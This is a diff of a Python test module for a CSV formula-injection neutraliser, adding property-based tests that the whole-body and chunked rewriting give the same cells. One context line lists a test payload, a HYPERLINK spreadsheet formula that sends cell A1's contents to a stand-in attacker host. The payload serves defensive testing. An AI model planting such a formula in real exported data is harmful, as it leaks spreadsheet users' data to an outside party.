@@ -17,7 +17,12 @@ import sqlite3
 from pathlib import Path
 
 import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
 from security.server_support import copy_registry, start, stop
+from sqlite_utils import Database
+
+from registry.derive.summaries import derive_summaries
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
@@ -57,8 +62,13 @@ def csv_server(security_registry, tmp_path_factory):
                 f"insert into {table} ({names}) values ({marks})", list(row.values())
             )
     conn.commit()
-    conn.execute("PRAGMA journal_mode = DELETE")
     conn.close()
+    # what a load derives from the rows planted above (the owners story reads it)
+    db = Database(path)
+    with db.conn:
+        derive_summaries(db)
+    db.execute("PRAGMA journal_mode = DELETE")
+    db.close()
     server = start(path)
     yield server
     stop(server)
@@ -189,3 +199,57 @@ def test_a_bare_carriage_return_cannot_start_a_row():
     assert not any(
         line.startswith(("=", "+", "@")) for line in re.split(r"[\r\n]", outside)
     )
+
+
+def _slow_cells(guard, text: str) -> list[list[str]]:
+    lines = [line + "\n" for line in text.split("\n")]
+    lines[-1] = lines[-1][:-1]
+    return guard.read_records([line for line in lines if line])
+
+
+CSV_TEXT = st.text(alphabet=',"\r\n=+-@\ta1 é', max_size=40)
+
+
+@settings(max_examples=400, deadline=None)
+@given(text=CSV_TEXT)
+@example(text='"\r\nab",1\r\n')  # a quoted cell that starts with a line end
+@example(text='a,"=1"\r\n')
+def test_a_body_passed_as_it_is_has_no_cell_the_rewriter_would_change(text):
+    """The whole-body shortcut (an export arrives in one piece): whatever it
+    lets through unchanged is a body in which no cell starts with a formula
+    character, read as the rewriter reads it, and every line ends CRLF."""
+    guard = load_guard()
+    out = guard.CsvNeutraliser().feed(text.encode(), final=True).decode()
+    if out != text:
+        return  # rewritten: the full rewriting's own tests cover it
+    assert guard.is_safe_csv(text) or not text.strip(",")
+    for row in _slow_cells(guard, text):
+        assert [guard.neutralise(c) for c in row] == row, (text, row)
+    assert not re.search(r"\r(?!\n)|(?<!\r)\n", text)
+
+
+@example(rows=[["\r\nab", "1"]])
+@settings(max_examples=200, deadline=None)
+@given(
+    rows=st.lists(
+        st.lists(
+            st.text(alphabet='ab,"\r\n=+-@\t1 ', max_size=6), min_size=1, max_size=4
+        ),
+        min_size=1,
+        max_size=5,
+    )
+)
+def test_a_whole_body_gives_the_cells_the_rewriter_gives(rows):
+    """Written by a CSV writer and sent in one piece, any body comes out with
+    the same cells as the full rewriting gives chunk by chunk."""
+    guard = load_guard()
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
+    data = buffer.getvalue().encode()
+    whole = guard.CsvNeutraliser().feed(data, final=True)
+    rewriter = guard.CsvNeutraliser()
+    chunked = rewriter.feed(data[:1]) + rewriter.feed(data[1:], final=True)
+    read = lambda body: list(csv.reader(io.StringIO(body.decode(), newline="")))  # noqa: E731
+    assert read(whole) == read(chunked)
+    expected = [[guard.neutralise(c) for c in row] for row in rows]
+    assert read(whole) == expected
